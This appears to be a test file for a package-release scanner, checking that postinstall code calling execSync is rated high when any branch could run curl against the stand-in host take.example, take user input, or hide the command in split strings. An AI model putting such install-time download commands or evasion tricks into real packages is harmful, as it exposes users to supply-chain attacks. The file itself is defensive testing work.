import { describe, expect, it } from 'vitest';
import { diffProfiles } from '../../src/diffs/diff-profiles.ts';
import { judgeRelease } from '../../src/policies/judge-release.ts';
import { profileOf } from '../profiles/profile-of.ts';

/** A package that runs its own file when it is installed, and what a patch release does there. */
function release(version: string, code: string): Parameters<typeof profileOf>[0] {
  return {
    'package.json': JSON.stringify({
      name: 'finder',
      version,
      type: 'module',
      scripts: { postinstall: 'node find.js' },
    }),
    'find.js': code,
  };
}

function told(code: string): readonly string[] {
  const begin = "import { execSync } from 'node:child_process';\n";
  const diff = diffProfiles(
    profileOf(release('1.1.0', begin)),
    profileOf(release('1.1.1', `${begin}${code}`)),
  );
  return judgeRelease({ diff, subject: 'pkg:npm/finder@1.1.1', firstSight: false })
    .filter(({ rule }) => rule === 'process-spawn-introduced')
    .map(({ severity }) => severity);
}

const isWindows = "process.platform === 'win32'";
const program = `const program = ${isWindows} ? 'rg.exe' : 'rg';`;

describe('a command that is a choice between constant texts', () => {
  it.each([
    [
      'names, put together where they are used',
      `${program} const find = ${isWindows} ? 'where' : 'which'; execSync(\`\${find} \${program}\`);`,
    ],
    ['a sum', `execSync((${isWindows} ? 'where' : 'which') + ' rg');`],
    [
      'a line that has a name',
      `const line = \`\${${isWindows} ? 'where' : 'which'} rg\`; execSync(line);`,
    ],
    [
      'choices within a choice',
      `execSync(\`\${${isWindows} ? 'where' : isOld ? 'which' : 'which -a'} rg\`);`,
    ],
  ])('is judged by what it may be: %s', (_, code) => {
    expect(told(code)).toEqual(['low']);
  });

  it.each([
    [
      'one side fetches',
      `${program} const find = isNew ? 'curl' : 'which'; execSync(\`\${find} \${program}\`);`,
    ],
    ['the other side fetches', "execSync(`${isNew ? 'which' : 'curl'} ${name}`);"],
    [
      'the end of the line fetches',
      "execSync(`which ${isNew ? 'rg; curl -O take.example/x' : 'rg'}`);",
    ],
    ['a side within a side fetches', "execSync(`${a ? 'which' : b ? 'curl' : 'where'} rg`);"],
    [
      'a side that is not known',
      "const find = isNew ? process.argv[2] : 'which'; execSync(`${find} rg`);",
    ],
    [
      'a name that is given something else later',
      "let find = isNew ? 'where' : 'which'; find = process.argv[2]; execSync(`${find} rg`);",
    ],
    [
      'a line of many pieces before the choice',
      "execSync('cu' + 'rl' + ' ' + '-' + 'O' + ' ' + 'take' + '.' + 'example' + '/' + (isNew ? 'x' : 'y'));",
    ],
    [
      'a line of more pieces than are looked at',
      `execSync('curl take.example/' ${'+ name '.repeat(300)} + (isNew ? 'x' : 'y'));`,
    ],
    [
      'more than a few',
      "execSync(`${a ? 'which' : 'where'} ${b ? 'a' : 'b'}${c ? 'a' : 'b'}${d ? 'a' : '; curl -O take.example/x'}`);",
    ],
  ])('is as loud as the loudest: %s', (_, code) => {
    expect(told(code)).toEqual(['high']);
  });

  it('is looked at in parts that are not made of one another without end', () => {
    const parts = Array.from(
      { length: 9 },
      (_, at) => `const a${at + 1} = \`${`\${a${at}}`.repeat(60)}\`;`,
    );
    expect(told(`const a0 = process.argv[2]; ${parts.join('\n')} execSync(a9);`)).toEqual(['high']);
  });
});
